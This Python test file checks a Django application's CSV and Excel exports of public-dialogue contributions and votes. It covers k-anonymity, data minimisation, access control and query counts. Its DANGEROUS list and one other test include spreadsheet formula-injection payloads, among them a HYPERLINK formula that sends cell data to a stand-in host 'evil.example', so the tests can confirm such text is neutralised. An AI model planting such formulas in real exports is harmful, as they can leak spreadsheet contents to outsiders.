"""Exports of published contributions, reactions and votes for staff.

What a file holds (published only, groups at k, no personal data), that it is
safe to open in a spreadsheet, who may download it, and that its cost in
queries does not grow with its rows.
"""

import csv
import io
import json
from datetime import timedelta

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from cms.permissions import (
    COMMUNICATIONS_GROUP,
    MODERATORS_GROUP,
    department_group_name,
)
from dialogue_blocks import services
from dialogue_blocks.models import (
    Contribution,
    ContributionKind,
    ContributionStatus,
    Participant,
    Province,
    Theme,
)
from insights import writers
from insights.exports import DialogueExport
from tests.factories import PhasePageFactory, staff
from tests.participation import (
    DOT_VOTE_ID,
    QUESTION_ID,
    dot_vote_block,
)

pytestmark = pytest.mark.django_db

URL = "/beheer/exports/"
DANGEROUS = [
    '=HYPERLINK("https://evil.example/?d="&A1;"klik")',
    "+31 6 1234",
    "@SUM(A1)",
]


@pytest.fixture
def province():
    return Province.objects.get(name="Utrecht")


def new_participant(dialogue, number, role="griffier", province=None, size="groot"):
    return Participant.objects.create(
        dialogue=dialogue,
        email_hash=f"{number:064x}",
        role=role,
        province=province,
        size_class=size,
        network_codes=["G40"],
    )


def write(participant, phase, text, status=ContributionStatus.PUBLISHED, **fields):
    return Contribution.objects.create(
        participant=participant,
        phase=phase,
        block_id=QUESTION_ID,
        text=text,
        status=status,
        **fields,
    )


def csv_text(export, name) -> str:
    return writers.csv_bytes(export.sheet(name)).decode("utf-8-sig")


def xlsx_values(export) -> dict[str, list[list]]:
    workbook = load_workbook(writers.xlsx_file(export.sheets()))
    return {
        sheet.title: [list(row) for row in sheet.iter_rows(values_only=True)]
        for sheet in workbook.worksheets
    }


def test_csv_starts_with_bom_and_uses_semicolons_and_crlf(phase, participant):
    write(participant, phase, "Samen sterker; dat werkt")
    data = writers.csv_bytes(DialogueExport(phase.get_parent()).sheet("bijdragen"))
    assert data.startswith(b"\xef\xbb\xbfnummer;stap;blok;soort;")
    lines = data.split(b"\r\n")
    assert len(lines) == 3 and lines[-1] == b""
    assert b'"Samen sterker; dat werkt"' in lines[1]


def test_formula_like_text_is_neutralised_in_csv_and_xlsx(phase, participant):
    for text in [*DANGEROUS, "-1", "\tverstopt"]:
        write(participant, phase, text)
    export = DialogueExport(phase.get_parent())
    rows = list(csv.reader(io.StringIO(csv_text(export, "bijdragen")), delimiter=";"))
    texts = {row[5] for row in rows[1:]}
    assert texts == {"'" + text for text in [*DANGEROUS, "-1", "\tverstopt"]}

    workbook = load_workbook(writers.xlsx_file(export.sheets()))
    texts = [
        cell
        for cell in next(workbook["Bijdragen"].iter_cols(min_col=6, max_col=6))
        if cell.row > 1
    ]
    assert {cell.value for cell in texts} >= set(DANGEROUS)
    assert all(cell.data_type == "s" for cell in texts)  # not "f": no formula


def test_control_characters_neither_break_xlsx_nor_hide_a_formula(phase, participant):
    write(participant, phase, '\x0b=HYPERLINK("https://evil.example")')
    export = DialogueExport(phase.get_parent())
    rows = list(csv.reader(io.StringIO(csv_text(export, "bijdragen")), delimiter=";"))
    assert rows[1][5].startswith("'\x0b=HYPERLINK")
    sheets = xlsx_values(DialogueExport(phase.get_parent()))
    assert sheets["Bijdragen"][1][5] == '=HYPERLINK("https://evil.example")'


def test_only_published_contributions_and_reactions_are_exported(phase, participant):
    shown = write(participant, phase, "Gepubliceerd")
    for status in [
        ContributionStatus.PENDING,
        ContributionStatus.REJECTED,
        ContributionStatus.HIDDEN,
        ContributionStatus.WITHDRAWN,
    ]:
        write(participant, phase, f"Niet: {status}", status=status)
        write(
            participant,
            phase,
            f"Reactie niet: {status}",
            status=status,
            parent=shown,
            kind=ContributionKind.REACTION,
        )
    hidden_parent = write(participant, phase, "Verborgen", ContributionStatus.HIDDEN)
    write(participant, phase, "Onder verborgen", parent=hidden_parent, kind="reactie")
    write(participant, phase, "Zichtbare reactie", parent=shown, kind="reactie")
    export = DialogueExport(phase.get_parent())
    contributions, reactions = (
        csv_text(export, "bijdragen"),
        csv_text(export, "reacties"),
    )
    assert "Gepubliceerd" in contributions and "Niet:" not in contributions
    assert "Verborgen" not in contributions
    assert "Zichtbare reactie" in reactions
    assert "Reactie niet" not in reactions and "Onder verborgen" not in reactions
    # The reaction points at its parent by the parent's number in this export.
    assert [row[4] for row in export.reaction_rows()] == [1]


def test_group_attributes_blank_below_k_and_shown_at_k(phase, province):
    dialogue = phase.get_parent()
    dialogue.k_threshold = 3
    dialogue.save()
    clerks = [new_participant(dialogue, n, province=province) for n in range(3)]
    lone_mayor = new_participant(dialogue, 99, role="burgemeester", province=province)
    write(clerks[0], phase, "Van een griffier")
    write(lone_mayor, phase, "Van de burgemeester")
    rows = {row[5]: row[9:] for row in DialogueExport(dialogue).contribution_rows()}
    assert rows["Van een griffier"] == ["griffier", "Utrecht", "grote gemeente", "G40"]
    assert rows["Van de burgemeester"] == ["", "", "", ""]

    clerks[2].delete()  # now two griffiers: below k
    rows = {row[5]: row[9:] for row in DialogueExport(dialogue).contribution_rows()}
    assert rows["Van een griffier"] == ["", "", "", ""]


def test_no_participant_id_pseudonym_or_time_in_any_output(phase, province):
    dialogue = phase.get_parent()
    dialogue.k_threshold = 2
    dialogue.save()
    people = [new_participant(dialogue, n, province=province) for n in range(2)]
    written = write(people[0], phase, "Eerste")
    write(people[1], phase, "Tweede", parent=written, kind="reactie")
    services.support(people[1], written)
    export = DialogueExport(dialogue)
    outputs = [csv_text(export, name) for name in ("bijdragen", "reacties", "stemmen")]
    outputs.append(repr(xlsx_values(DialogueExport(dialogue))))
    for output in outputs:
        for person in Participant.objects.all():
            assert person.id not in output
            assert person.email_hash not in output
            assert person.session_token not in output
        assert written.created_at.strftime("%H:%M") not in output
    contribution_row = next(DialogueExport(dialogue).contribution_rows())
    assert contribution_row[6] == 1  # one support, as a count
    assert contribution_row[8] == timezone.localdate(written.created_at)


def voting_phase(dialogue):
    now = timezone.now()
    return PhasePageFactory(
        parent=dialogue,
        step=5,
        opens_at=now - timedelta(days=1),
        closes_at=now + timedelta(days=7),
        body=json.dumps([dot_vote_block(budget=5, max_per_option=3)]),
    )


def test_vote_aggregates_obey_k(dialogue, themes, province):
    dialogue.k_threshold = 3
    dialogue.save()
    themes.append(Theme.objects.create(dialogue=dialogue, title="Zeggenschap"))
    phase = voting_phase(dialogue)
    voters = [new_participant(dialogue, n, province=province) for n in range(8)]
    options = [str(theme.pk) for theme in themes]

    def vote(voter, theme, points):
        services.cast_vote(
            voter,
            phase,
            DOT_VOTE_ID,
            {str(theme.pk): points},
            budget=5,
            max_per_option=3,
            options=options,
        )

    for voter in voters[:3]:
        vote(voter, themes[0], 2)
    for voter in voters[3:7]:
        vote(voter, themes[1], 1)
    vote(voters[7], themes[2], 1)
    rows = {row[2]: row for row in DialogueExport(dialogue).vote_rows()}
    assert rows["Slagkracht"][3:] == [4, 4, 8]
    # Below k, and the smallest other option too, or the total would give it away.
    assert rows["Zeggenschap"][3:] == ["minder dan 3", "minder dan 3", 8]
    assert rows["Legitimiteit"][3:] == ["minder dan 3", "minder dan 3", 8]
    assert "minder dan 3" in csv_text(DialogueExport(dialogue), "stemmen")


def test_xlsx_has_one_bold_frozen_sheet_per_kind(phase, participant):
    write(participant, phase, "Iets")
    workbook = load_workbook(
        writers.xlsx_file(DialogueExport(phase.get_parent()).sheets())
    )
    assert workbook.sheetnames == ["Bijdragen", "Reacties", "Stemmen"]
    for sheet in workbook.worksheets:
        assert sheet.freeze_panes == "A2"
        assert sheet["A1"].font.bold
        assert sheet.column_dimensions["A"].width >= 8
    assert workbook["Bijdragen"].column_dimensions["F"].width == 80


@pytest.mark.parametrize(
    "group_name", [MODERATORS_GROUP, department_group_name(Province(name="Utrecht"))]
)
def test_moderators_and_department_editors_may_not_export(client, dialogue, group_name):
    client.force_login(staff("iemand", group_name))
    assert client.get(URL).status_code == 403
    assert (
        client.get(URL, {"dialogue": dialogue.pk, "file": "alles.xlsx"}).status_code
        == 403
    )


def test_communications_downloads_csv_and_xlsx(client, phase, participant):
    write(participant, phase, "Voor de export")
    dialogue = phase.get_parent()
    client.force_login(staff("communicatie", COMMUNICATIONS_GROUP))
    page = client.get(URL)
    assert page.status_code == 200
    assert "Exports" in page.content.decode()
    # The only dialogue is preselected.
    assert f'<option value="{dialogue.pk}" selected>' in page.content.decode()

    response = client.get(URL, {"dialogue": dialogue.pk, "file": "bijdragen.csv"})
    assert response.status_code == 200
    today = timezone.localdate().isoformat()
    assert response["Content-Disposition"] == (
        f'attachment; filename="bijdragen-{dialogue.slug}-{today}.csv"'
    )
    body = b"".join(response.streaming_content)
    assert body.startswith(b"\xef\xbb\xbf") and b"Voor de export" in body

    response = client.get(URL, {"dialogue": dialogue.pk, "file": "alles.xlsx"})
    assert response.status_code == 200
    assert f"dialoog-{dialogue.slug}-{today}.xlsx" in response["Content-Disposition"]
    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    assert workbook.sheetnames == ["Bijdragen", "Reacties", "Stemmen"]


def test_export_menu_item_only_for_who_may_export(client, dialogue):
    client.force_login(staff("moderator", MODERATORS_GROUP))
    assert reverse("insights_exports") not in client.get("/beheer/").content.decode()
    client.force_login(staff("communicatie", COMMUNICATIONS_GROUP))
    assert reverse("insights_exports") in client.get("/beheer/").content.decode()


def fill(phase, dialogue, province, count):
    first = Participant.objects.count() + 1000
    people = [new_participant(dialogue, first + n, province=province) for n in range(3)]
    for n in range(count):
        parent = write(people[n % 3], phase, f"Bijdrage {n}")
        write(people[(n + 1) % 3], phase, f"Reactie {n}", parent=parent, kind="reactie")


def queries_for_download(client, dialogue, file) -> int:
    with CaptureQueriesContext(connection) as queries:
        response = client.get(URL, {"dialogue": dialogue.pk, "file": file})
        b"".join(response.streaming_content)
    return len(queries)


@pytest.mark.parametrize("file", ["bijdragen.csv", "reacties.csv", "alles.xlsx"])
def test_query_count_does_not_grow_with_rows(client, phase, province, file):
    dialogue = phase.get_parent()
    client.force_login(staff("communicatie", COMMUNICATIONS_GROUP))
    fill(phase, dialogue, province, 3)
    few = queries_for_download(client, dialogue, file)
    fill(phase, dialogue, province, 60)
    many = queries_for_download(client, dialogue, file)
    assert many == few


def test_unknown_dialogue_or_file_shows_the_form_with_dutch_errors(client, dialogue):
    client.force_login(staff("communicatie", COMMUNICATIONS_GROUP))
    response = client.get(URL, {"dialogue": "999999", "file": "geheim.txt"})
    assert response.status_code == 200
    text = response.content.decode()
    assert "Deze dialoog bestaat niet (meer)." in text
    assert "Kies een van de bestanden uit de lijst." in text
    assert "Content-Disposition" not in response
